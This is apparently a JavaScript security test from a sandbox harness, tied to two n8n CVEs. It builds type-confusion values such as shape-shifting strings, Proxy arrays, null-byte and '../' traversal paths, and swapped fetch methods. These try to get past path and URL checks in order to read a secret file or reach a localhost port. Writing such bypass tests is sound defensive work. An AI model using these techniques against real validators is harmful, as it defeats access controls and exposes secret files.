// From: n8n CVE-2026-25049 and CVE-2026-1470: names that are checked as one text and used as another, since they are no text.
// Ends: []
import { readDir, readFile, readTextFile, rename, stat, writeFile } from "aardvark:fs";
import { gains } from "../gains.js";

export const attack = ({ secret, port }) => {
  const text = (...texts) => { let asked = 0; const next = () => texts[Math.min(asked++, texts.length - 1)]; return { toString: next, valueOf: next, [Symbol.toPrimitive]: next, startsWith: () => true, length: 1, 0: "/" }; };
  const kinds = (fine, evil) => [[evil], new String(evil), text(fine, evil), text(evil), Object.setPrototypeOf(() => {}, text(fine, evil)), new Proxy([fine], { get: (_, key) => (key === "length" ? 1 : evil) }), { __proto__: String.prototype, toString: () => evil }, `${fine}\0${evil}`, `${fine}/../..${evil}`];
  const ways = [];
  for (const path of kinds("/tmp/a", secret)) {
    for (const use of [readFile, readTextFile, readDir, stat]) ways.push(() => use(path));
    ways.push(() => writeFile(path, "x") ?? 1, () => rename(path, "/tmp/b") ?? 1, () => import(path), () => import(path, { with: { type: text("json", "text") } }));
  }
  for (const url of kinds("https://example.com/", `http://127.0.0.1:${port}/`)) {
    ways.push(async () => (await fetch(url)).status, async () => (await fetch(new Request(url))).status, async () => (await fetch({ url, __proto__: Request.prototype })).status);
  }
  ways.push(async () => (await fetch(`http://127.0.0.1:${port}/`, { method: text("GET", "CONNECT"), redirect: text("error", "follow"), headers: { [Symbol.iterator]: null } })).status);
  return gains(ways);
};
